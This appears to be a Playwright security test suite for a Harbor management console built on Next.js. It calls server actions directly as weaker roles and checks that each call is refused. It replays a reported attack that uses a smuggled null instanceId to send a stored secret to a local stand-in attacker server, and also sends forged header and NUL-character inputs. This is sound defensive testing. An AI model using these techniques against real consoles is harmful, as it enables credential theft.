/**
 * The authorization matrix, against the production build as an attacker meets it: every server action the build
 * exposes (read from its server-reference manifest, so a new action is covered without anyone remembering) is
 * called directly by its Next-Action id, as anonymous and as every role weaker than its row in
 * test/support/action-matrix.ts, with an input that would do harm; each call must be refused and write nothing.
 * Route handlers likewise. Then the stored-secret rules of "Test connection" (issue #14, finding 1).
 */
import { expect, request as playwrightRequest, test, type APIRequestContext } from "@playwright/test";
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import { ACTION_MATRIX, ROLE_RANK, ROUTE_MATRIX, type Ids, type MatrixRole } from "../support/action-matrix";
import { admin, apiSignIn, makeUser, query } from "./helpers";

const root = path.resolve(__dirname, "../..");
const baseURL = `http://127.0.0.1:${process.env.E2E_PORT ?? "3107"}`;
const PASSWORD = "matrix-password-123";
type Caller = "anonymous" | MatrixRole;

interface ExposedAction {
  id: string;
  key: string;
}

function exposedActions(): ExposedAction[] {
  const manifest = JSON.parse(fs.readFileSync(path.join(root, ".next/server/server-reference-manifest.json"), "utf8")) as {
    node: Record<string, { filename: string; exportedName: string }>;
  };
  return Object.entries(manifest.node).map(([id, v]) => ({ id, key: `${path.basename(v.filename)}#${v.exportedName}` }));
}

async function callAction(ctx: APIRequestContext, id: string, input: unknown) {
  const res = await ctx.post("/", {
    headers: { "next-action": id, "content-type": "text/plain;charset=UTF-8", accept: "text/x-component" },
    data: JSON.stringify(input === undefined ? [] : [input]),
    maxRedirects: 0,
  });
  return { status: res.status(), location: res.headers()["location"] ?? "", text: await res.text() };
}

/** Everything a refused call must leave as it was. */
async function writableState() {
  const [row] = await query(`select
    (select count(*) from "AuditEvent")::int as audit,
    (select md5(coalesce(string_agg(t::text, ',' order by t.id), '')) from (select id, name, "baseUrl", username, "secretCipher", "caBundle", "skipTlsVerify", version, "connectionTest"::text from "HarborInstance") t) as instances,
    (select md5(coalesce(string_agg(t::text, ',' order by t.id), '')) from (select id, email, role, disabled, "sessionVersion", "passwordHash", "fleetSinceAt" from "User") t) as users,
    (select count(*) from "TopologyRevision")::int as revisions,
    (select md5(coalesce(string_agg(t::text, ',' order by t.key), '')) from (select key, value::text from "ConsoleSetting") t) as settings,
    (select count(*) from "CollectorSweep" where trigger = 'manual')::int as manual_sweeps,
    (select md5(coalesce(string_agg(t::text, ',' order by t.id), '')) from (select id, state, version, "targetVersion", preflight::text from "UpgradePlan") t) as upgrade_plans`);
  return row;
}

/** A server that records every request it gets: where a leaked credential would arrive. */
function attackerServer() {
  const seen: { url: string; authorization?: string }[] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? "", authorization: req.headers.authorization });
    res.writeHead(200, { "content-type": "application/json" }).end('{"harbor_version":"v2.11.0"}');
  });
  return { seen, server };
}

test.describe("authorization", () => {
  const contexts = {} as Record<Caller, APIRequestContext>;
  let ids: Ids & { attackerUrl: string };
  const attacker = attackerServer();

  test.beforeAll(async () => {
    await new Promise<void>((r) => attacker.server.listen(0, "127.0.0.1", r));
    const attackerUrl = `http://127.0.0.1:${(attacker.server.address() as { port: number }).port}/harbor`;
    contexts.anonymous = await playwrightRequest.newContext({ baseURL });
    const users: Partial<Record<MatrixRole, { id: string; email: string }>> = {};
    for (const role of ["viewer", "operator", "admin"] as const) {
      users[role] = await makeUser(role, PASSWORD);
      contexts[role] = await playwrightRequest.newContext({ baseURL });
      const after = await apiSignIn(contexts[role], users[role]!.email, PASSWORD);
      expect(after, `${role} signs in`).not.toContain("error=");
    }
    // The instance whose stored secret everything below tries to steal, registered by the admin as usual.
    const create = exposedActions().find((a) => a.key === "instances.ts#createInstanceAction")!;
    const name = `matrix-${Date.now().toString(36)}`;
    const made = await callAction(contexts.admin, create.id, {
      name,
      environment: "production",
      deploymentMode: "docker_compose",
      baseUrl: process.env.E2E_SIM_LEGACY_URL,
      username: "admin",
      secret: "Harbor12345",
      labels: "",
      description: "",
    });
    expect(made.text).toContain(name);
    const [inst] = await query<{ id: string; version: number }>('select id, version from "HarborInstance" where name = $1', [name]);
    const [firstAdmin] = await query<{ id: string }>('select id from "User" where email = $1', [admin().email]);
    // A draft upgrade plan for it, so that the plan actions have something real to change (1.10.19 → 2.4.3).
    const [plan] = await query<{ id: string }>(
      `insert into "UpgradePlan" (id, "instanceId", "fromVersion", "targetVersion", path, "updatedAt", "createdByEmail", "updatedByEmail")
       values (gen_random_uuid(), $1, '1.10.19', '2.4.3', '{2.4.3}', now(), 'matrix@e2e.test', 'matrix@e2e.test') returning id::text as id`,
      [inst.id],
    );
    ids = {
      instanceId: inst.id,
      instanceName: name,
      instanceVersion: inst.version,
      planId: plan.id,
      viewerId: users.viewer!.id,
      adminId: firstAdmin.id,
      attackerUrl,
    };
  });

  test.afterAll(async () => {
    for (const c of Object.values(contexts)) await c.dispose();
    await new Promise((r) => attacker.server.close(r));
  });

  test("every exposed server action has a row in the matrix", () => {
    const missing = exposedActions()
      .filter((a) => !ACTION_MATRIX[a.key])
      .map((a) => a.key);
    expect(missing).toEqual([]);
  });

  test("every server action refuses anonymous callers and weaker roles, and writes nothing", async () => {
    test.setTimeout(180_000);
    const actions = exposedActions();
    expect(actions.length).toBeGreaterThan(10);
    let refusals = 0;
    for (const action of actions) {
      const row = ACTION_MATRIX[action.key];
      const input = row.sample?.({ ...ids, instanceVersion: ids.instanceVersion });
      const callers: Caller[] = [
        "anonymous",
        ...(["viewer", "operator", "admin"] as const).filter((r) => row.role !== "signed-in" && ROLE_RANK[r] < ROLE_RANK[row.role as MatrixRole]),
      ];
      for (const caller of callers) {
        const before = await writableState();
        const res = await callAction(contexts[caller], action.id, input);
        const refused =
          caller === "anonymous"
            ? (res.status >= 300 && res.status < 400 && res.location.includes("/login")) || /"code":"unauthorized"/.test(res.text)
            : /"code":"forbidden"/.test(res.text);
        expect(refused, `${action.key} as ${caller}: ${res.status} ${res.text.slice(0, 300)}`).toBe(true);
        expect(await writableState(), `${action.key} as ${caller} wrote something`).toEqual(before);
        refusals++;
      }
      // The weakest allowed role gets past the gate: malformed input comes back as a validation error, not a refusal.
      if (row.sample && row.role !== "signed-in") {
        const res = await callAction(contexts[row.role as MatrixRole], action.id, "not an object");
        expect(res.text, `${action.key} as ${row.role}`).not.toMatch(/"code":"(forbidden|unauthorized)"/);
      }
    }
    expect(refusals).toBeGreaterThan(20);
    expect(attacker.seen, "no request reached the attacker's server").toEqual([]);
  });

  test("every route handler answers only the roles its row allows", async () => {
    for (const [file, route] of Object.entries(ROUTE_MATRIX)) {
      const url = route.path(ids);
      for (const caller of ["anonymous", "viewer", "operator", "admin"] as const) {
        const res = await contexts[caller].get(url, { maxRedirects: 0 });
        const allowed = route.role === "public" || (caller !== "anonymous" && ROLE_RANK[caller] >= ROLE_RANK[route.role]);
        if (allowed) expect([200, 404], `${file} as ${caller}`).toContain(res.status());
        else expect([401, 403, 307], `${file} as ${caller}`).toContain(res.status());
      }
    }
  });

  test("a stored secret only goes where it was saved, and every use of it is audited", async () => {
    const actions = exposedActions();
    const draft = actions.find((a) => a.key === "connection.ts#testDraftConnectionAction")!.id;
    const saved = actions.find((a) => a.key === "connection.ts#testSavedConnectionAction")!.id;
    const base = { id: ids.instanceId, username: "admin", secret: "", caBundle: "", skipTlsVerify: false };

    // The reported attack: an operator sends the saved-instance key as null so the draft branch took the input.
    const smuggled = await callAction(contexts.operator, draft, { instanceId: null, ...base, baseUrl: ids.attackerUrl });
    expect(smuggled.text).toMatch(/"code":"forbidden"/);
    const mixed = await callAction(contexts.operator, saved, { instanceId: ids.instanceId, baseUrl: ids.attackerUrl });
    expect(mixed.text).toContain("validationErrors");

    // Even an admin must type the secret again to send it to another URL, or to loosen TLS trust.
    const moved = await callAction(contexts.admin, draft, { ...base, baseUrl: ids.attackerUrl });
    expect(moved.text).toContain("The URL changed: enter the secret again");
    const loosened = await callAction(contexts.admin, draft, { ...base, baseUrl: process.env.E2E_SIM_LEGACY_URL, skipTlsVerify: true });
    expect(loosened.text).toContain("enter the secret again");
    expect(attacker.seen).toEqual([]);

    // Typed again, it goes where the admin says (their own credential, their decision), and no stored secret is used.
    const typed = await callAction(contexts.admin, draft, { ...base, baseUrl: ids.attackerUrl, secret: "typed-by-admin" });
    expect(typed.text).toContain('"testedAt"');
    expect(attacker.seen.length).toBeGreaterThan(0);
    expect(attacker.seen.every((r) => r.authorization === `Basic ${Buffer.from("admin:typed-by-admin").toString("base64")}`)).toBe(true);

    // Towards its own URL the stored secret is used, and the audit trail says who sent it where.
    const auditBefore = (await query<{ n: number }>(`select count(*)::int as n from "AuditEvent" where action = 'instance.connection_test'`))[0].n;
    const same = await callAction(contexts.admin, draft, { ...base, baseUrl: process.env.E2E_SIM_LEGACY_URL });
    expect(same.text).toContain('"credential":"valid"');
    const bySaved = await callAction(contexts.operator, saved, { instanceId: ids.instanceId });
    expect(bySaved.text).toContain('"credential":"valid"');
    const rows = await query<{ actorEmail: string; targetId: string; after: { baseUrl: string; draft: boolean; storedSecret: boolean } }>(
      `select "actorEmail", "targetId", after from "AuditEvent" where action = 'instance.connection_test' order by id desc limit 2`,
    );
    const auditAfter = (await query<{ n: number }>(`select count(*)::int as n from "AuditEvent" where action = 'instance.connection_test'`))[0].n;
    expect(auditAfter).toBe(auditBefore + 2);
    expect(rows.map((r) => [r.targetId, r.after.baseUrl, r.after.storedSecret])).toEqual([
      [ids.instanceId, process.env.E2E_SIM_LEGACY_URL, true],
      [ids.instanceId, process.env.E2E_SIM_LEGACY_URL, true],
    ]);
    expect(rows.map((r) => r.after.draft)).toEqual([false, true]);
  });

  test("a user who must still choose a password reads nothing through the route handlers either", async () => {
    const pending = await makeUser("viewer", PASSWORD);
    await query(`update "User" set "mustChangePassword" = true where id = $1`, [pending.id]);
    const ctx = await playwrightRequest.newContext({ baseURL });
    try {
      expect(await apiSignIn(ctx, pending.email, PASSWORD)).not.toContain("error=");
      expect((await ctx.get("/api/fleet")).status()).toBe(401);
      expect((await ctx.get(`/api/fleet/instances/${ids.instanceId}`)).status()).toBe(401);
      const health = (await (await ctx.get("/api/health")).json()) as { collector?: { detail?: unknown } };
      expect(health.collector?.detail).toBeUndefined();
    } finally {
      await ctx.dispose();
    }
  });

  test("NUL characters get a sentence, not a server error: in a query string (400) and in an action's text", async () => {
    const res = await contexts.viewer.get("/instances?q=%00", { maxRedirects: 0 });
    expect(res.status()).toBe(400);
    expect(await res.text()).toMatch(/NUL/);
    const create = exposedActions().find((a) => a.key === "instances.ts#createInstanceAction")!.id;
    const made = await callAction(contexts.admin, create, {
      name: `nul-${Date.now().toString(36)}`,
      environment: "staging",
      deploymentMode: "docker_compose",
      baseUrl: "https://harbor.example.com",
      username: "admin",
      secret: "x",
      labels: "",
      description: "before\u0000after",
    });
    expect(made.text).toMatch(/NUL characters/);
    expect(made.text).not.toMatch(/Something went wrong/);
  });

  test("the session endpoint answers nothing for a session that has ended", async () => {
    const user = await makeUser("viewer", PASSWORD);
    const ctx = await playwrightRequest.newContext({ baseURL });
    try {
      await apiSignIn(ctx, user.email, PASSWORD);
      expect(((await (await ctx.get("/api/auth/session")).json()) as { user?: unknown }).user).toBeTruthy();
      await query(`update "User" set "sessionVersion" = "sessionVersion" + 1 where id = $1`, [user.id]);
      expect(((await (await ctx.get("/api/auth/session")).json()) as { user?: unknown }).user).toBeUndefined();
    } finally {
      await ctx.dispose();
    }
  });

  test("a client's X-Request-Id is kept apart from the console's own", async () => {
    const saved = exposedActions().find((a) => a.key === "connection.ts#testSavedConnectionAction")!.id;
    const res = await contexts.operator.post("/", {
      headers: {
        "next-action": saved,
        "content-type": "text/plain;charset=UTF-8",
        accept: "text/x-component",
        "x-request-id": "forged\tid-" + "x".repeat(300),
      },
      data: JSON.stringify([{ instanceId: ids.instanceId }]),
    });
    expect(res.headers()["x-request-id"]).toMatch(/^[0-9a-f-]{36}$/);
    const [row] = await query<{ requestId: string; clientRequestId: string }>(
      `select "requestId", "clientRequestId" from "AuditEvent" where action = 'instance.connection_test' order by id desc limit 1`,
    );
    expect(row.requestId).toBe(res.headers()["x-request-id"]);
    expect(row.clientRequestId).toBe(("forgedid-" + "x".repeat(300)).slice(0, 100));
  });
});
